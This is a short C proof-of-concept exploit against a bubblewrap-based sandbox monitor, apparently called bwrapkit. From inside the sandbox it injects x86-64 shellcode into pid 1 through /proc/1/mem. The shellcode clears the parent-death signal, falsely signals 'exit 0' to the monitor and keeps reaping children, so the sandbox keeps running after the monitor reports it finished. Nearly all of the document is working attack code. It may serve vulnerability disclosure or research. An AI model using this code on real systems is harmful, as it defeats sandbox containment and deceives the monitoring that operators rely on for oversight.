// PoC: from inside the sandbox, take over bwrap's pid 1 through /proc/1/mem, drop its
// PDEATHSIG, tell the monitor "exit 0", and keep reaping: bwrapkit returns while the
// sandbox keeps running. Heartbeat: appends to ./heartbeat every 0.5 s for SECS seconds.
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <fcntl.h>
#include <unistd.h>
#include <time.h>
#include <sys/wait.h>
extern char sc_start[], sc_end[];
__asm__(".globl sc_start\n.globl sc_end\nsc_start:\n"
  "mov $157, %eax\n mov $1, %edi\n xor %esi, %esi\n syscall\n"          /* prctl(PR_SET_PDEATHSIG, 0) */
  "push $1\n mov %rsp, %rsi\n mov $7, %edi\n mov $8, %edx\n mov $1, %eax\n syscall\n" /* write(event_fd=7, &1, 8) */
  "1:\n mov $-1, %edi\n xor %esi, %esi\n xor %edx, %edx\n xor %r10, %r10\n mov $61, %eax\n syscall\n jmp 1b\n" /* for(;;) wait4(-1,0,0,0) */
  "sc_end:\n");
int main(int argc, char **argv) {
  int secs = argc > 1 ? atoi(argv[1]) : 20;
  char buf[512] = {0}; int f = open("/proc/1/syscall", O_RDONLY); read(f, buf, sizeof buf - 1); close(f);
  char *last = strrchr(buf, ' '); unsigned long pc = strtoul(last + 1, 0, 16);
  fprintf(stderr, "pid1 syscall: %s", buf);
  int m = open("/proc/1/mem", O_RDWR); if (m < 0) { perror("open /proc/1/mem"); return 1; }
  if (pwrite(m, sc_start, sc_end - sc_start, pc) < 0) { perror("pwrite"); return 1; }
  close(m);
  pid_t c = fork(); if (c == 0) { if (fork() == 0) { usleep(100000); _exit(0); } _exit(0); }  /* an orphan for pid 1 to reap */
  waitpid(c, 0, 0);
  for (int i = 0; i < secs * 2; i++) {
    int h = open("heartbeat", O_WRONLY|O_CREAT|O_APPEND, 0644); dprintf(h, "%ld\n", (long)time(0)); close(h); usleep(500000);
  }
  return 0;
}
